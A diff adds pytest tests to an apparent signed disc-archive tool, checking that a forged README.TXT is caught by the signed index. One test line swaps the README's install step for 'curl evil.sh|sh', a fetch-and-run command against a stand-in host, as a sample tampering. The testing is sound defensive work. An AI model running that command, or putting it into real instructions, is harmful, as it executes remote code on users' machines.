@@ -112,6 +112,27 @@ def test_a_changed_index_fails_its_signature_even_with_a_fixed_manifest(disc: Di
         iso.read_disc(disc.image)  # even against the disc's own key
 
 
+def test_a_changed_readme_fails_quick_verification_even_with_a_fixed_manifest(disc: Disc, tmp_path: Path) -> None:
+    """Issue 9 #12: README.TXT tells a finder how to decrypt; a forger who edits its instructions
+    (and fixes MANIFEST.TXT, which nothing signs) is caught by the README hash in the signed index."""
+    readme_at = file_offset(disc.image, "README.TXT")
+    readme = _raw_file(disc.image, "README.TXT")
+    changed = readme.replace(b"apt install age", b"curl evil.sh|sh", 1)
+    assert changed != readme and len(changed) == len(readme)
+    patch_bytes(disc.image, readme_at, changed)
+    patch_bytes(disc.image, _manifest_line_offset(disc.image, "README.TXT"), hashlib.sha256(changed).hexdigest().encode())
+    with pytest.raises(IntegrityError, match=r"README.TXT .*signed index"):
+        iso.verify_quick(disc.image, public_key=disc.public_key)
+    folder = tmp_path / "mnt"  # a mounted disc too
+    run(["osirrox", "-indev", disc.image, "-extract", "/", folder])
+    with pytest.raises(IntegrityError, match="README.TXT"):
+        iso.verify_quick(folder, public_key=disc.public_key)
+
+
+def test_a_good_disc_reports_its_readme_as_signed(disc: Disc) -> None:
+    assert iso.verify_quick(disc.image, public_key=disc.public_key).readme_signed
+
+
 def test_an_index_resigned_with_another_key_is_refused(disc: Disc, tmp_path: Path, master_key: bytes) -> None:
     """A forger re-signs with their own key and puts their public key on the disc."""
     forger = keys.new_signing_key(master_key, ARCHIVE_ID)
